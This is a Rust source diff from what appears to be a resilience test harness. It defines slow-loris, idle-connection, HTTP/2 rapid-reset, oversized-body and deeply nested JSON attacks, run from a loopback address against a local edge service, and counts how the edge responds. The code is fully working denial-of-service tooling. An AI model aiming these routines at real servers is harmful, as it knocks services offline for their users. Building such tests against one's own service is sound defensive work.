@@ -1,0 +1,219 @@
+//! The attacks. Each runs until it is dropped, from one address.
+
+use std::fmt;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::pin::Pin;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::Duration;
+
+use anyhow::Result;
+use futures_util::future::join_all;
+use http::Request;
+use stack::client::Client;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpSocket, TcpStream};
+use tokio::time::sleep;
+
+/// The attacker's address, which is not that of the client whose reads are measured.
+const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 6, 66));
+/// Of new connections, when the edge closes them.
+const AGAIN: Duration = Duration::from_millis(50);
+
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    pub(super) what: &'static str,
+    pub(super) run: fn(Arc<Target>) -> Pin<Box<dyn Future<Output = Result<()>>>>,
+}
+
+pub(super) const ATTACKS: [Attack; 5] = [
+    Attack {
+        name: "slow-loris",
+        what: "400 connections, each of which sends a byte of its headers per second",
+        run: |target| Box::pin(together(400, target, slow_loris)),
+    },
+    Attack {
+        name: "idle-connections",
+        what: "10,000 connections that send nothing",
+        run: |target| Box::pin(together(10_000, target, idle)),
+    },
+    Attack {
+        name: "rapid-reset",
+        what: "4 connections that open HTTP/2 streams and reset them at once",
+        run: |target| Box::pin(together(4, target, rapid_reset)),
+    },
+    Attack {
+        name: "large-bodies",
+        what: "8 connections that send bodies of 100 MB",
+        run: |target| Box::pin(together(8, target, large_body)),
+    },
+    Attack {
+        name: "deep-json",
+        what: "8 connections that send JSON of a depth of 100,000, with a token",
+        run: |target| Box::pin(together(8, target, deep_json)),
+    },
+];
+
+/// The edge, and what it did to the attacker.
+pub(super) struct Target {
+    edge: SocketAddr,
+    token: String,
+    connections: AtomicU64,
+    closed: AtomicU64,
+    requests: AtomicU64,
+    responses: AtomicU64,
+}
+
+pub(super) struct Seen {
+    connections: u64,
+    closed: u64,
+    requests: u64,
+    responses: u64,
+}
+
+impl Target {
+    pub(super) fn new(port: u16, customer: &Client) -> Self {
+        let token = customer.token().to_owned();
+        let edge = SocketAddr::from(([127, 0, 0, 1], port));
+        let zero = || AtomicU64::new(0);
+        let (connections, closed, requests, responses) = (zero(), zero(), zero(), zero());
+        Self { edge, token, connections, closed, requests, responses }
+    }
+
+    /// What was counted since the last time.
+    pub(super) fn take(&self) -> Seen {
+        let take = |count: &AtomicU64| count.swap(0, Ordering::Relaxed);
+        Seen {
+            connections: take(&self.connections),
+            closed: take(&self.closed),
+            requests: take(&self.requests),
+            responses: take(&self.responses),
+        }
+    }
+
+    async fn connect(&self) -> Result<TcpStream> {
+        let socket = TcpSocket::new_v4()?;
+        socket.bind(SocketAddr::new(ATTACKER, 0))?;
+        let stream = socket.connect(self.edge).await?;
+        count(&self.connections);
+        Ok(stream)
+    }
+}
+
+impl fmt::Display for Seen {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let Self { connections, closed, requests, responses } = self;
+        write!(
+            f,
+            "{connections} connections, {closed} of them ended by the edge; {requests} requests, {responses} responses"
+        )
+    }
+}
+
+fn count(counter: &AtomicU64) {
+    counter.fetch_add(1, Ordering::Relaxed);
+}
+
+/// Several attackers, each of which begins again when the edge ends its connection.
+async fn together<F: Future<Output = Result<()>>>(
+    attackers: usize,
+    target: Arc<Target>,
+    attack: impl Fn(Arc<Target>) -> F + Copy,
+) -> Result<()> {
+    let attackers = (0..attackers).map(|_| {
+        let target = target.clone();
+        async move {
+            loop {
+                // An attack fails when the edge ends the connection.
+                let _ = attack(target.clone()).await;
+                count(&target.closed);
+                sleep(AGAIN).await;
+            }
+        }
+    });
+    join_all(attackers).await;
+    Ok(())
+}
+
+async fn slow_loris(target: Arc<Target>) -> Result<()> {
+    let mut stream = target.connect().await?;
+    count(&target.requests);
+    stream.write_all(b"GET /v1/products HTTP/1.1\r\nhost: x\r\nx-slow: ").await?;
+    let (mut input, mut output) = stream.split();
+    let mut response = [0; 1_024];
+    tokio::select! {
+        read = input.read(&mut response) => { if read? > 0 { count(&target.responses) } }
+        failed = async { loop {
+            if let Err(error) = output.write_all(b"x").await { break error; }
+            sleep(Duration::from_secs(1)).await;
+        } } => return Err(failed.into()),
+    }
+    Ok(())
+}
+
+async fn idle(target: Arc<Target>) -> Result<()> {
+    let mut stream = target.connect().await?;
+    stream.read(&mut [0]).await?;
+    // Ten thousand that connect again at once would only show the speed of this program.
+    sleep(Duration::from_secs(5)).await;
+    Ok(())
+}
+
+async fn rapid_reset(target: Arc<Target>) -> Result<()> {
+    let (client, connection) = h2::client::handshake(target.connect().await?).await?;
+    let mut client = client;
+    let flood = async {
+        loop {
+            client = client.clone().ready().await?;
+            let request = Request::get("http://souk/v1/products").body(())?;
+            let (_response, mut stream) = client.send_request(request, true)?;
+            count(&target.requests);
+            stream.send_reset(h2::Reason::CANCEL);
+            tokio::task::yield_now().await;
+        }
+    };
+    tokio::select! {
+        ended = connection => Ok(ended?),
+        failed = flood => failed,
+    }
+}
+
+async fn large_body(target: Arc<Target>) -> Result<()> {
+    const PIECE: usize = 1 << 16;
+    let stream = target.connect().await?;
+    let (mut input, mut output) = stream.into_split();
+    count(&target.requests);
+    output.write_all(b"POST /v1/sessions HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n").await?;
+    let piece = [format!("{PIECE:x}\r\n").as_bytes(), &[b' '; PIECE], b"\r\n"].concat();
+    let send = async {
+        for _ in 0..100_000_000 / PIECE {
+            output.write_all(&piece).await?;
+        }
+        std::future::pending::<Result<()>>().await
+    };
+    let mut response = [0; 1_024];
+    tokio::select! {
+        read = input.read(&mut response) => { if read? > 0 { count(&target.responses) } }
+        sent = send => return sent,
+    }
+    Ok(())
+}
+
+async fn deep_json(target: Arc<Target>) -> Result<()> {
+    let mut stream = target.connect().await?;
+    let body = [r#"{"items": "#.to_owned(), "[".repeat(100_000)].concat();
+    let head = format!(
+        "POST /v1/orders HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\ncontent-length: {}\r\n\r\n",
+        target.token,
+        body.len()
+    );
+    let mut response = vec![0; 1 << 16];
+    loop {
+        count(&target.requests);
+        stream.write_all(head.as_bytes()).await?;
+        stream.write_all(body.as_bytes()).await?;
+        let read = stream.read(&mut response).await?;
+        anyhow::ensure!(read > 0, "the edge closed the connection");
+        count(&target.responses);
+    }
+}
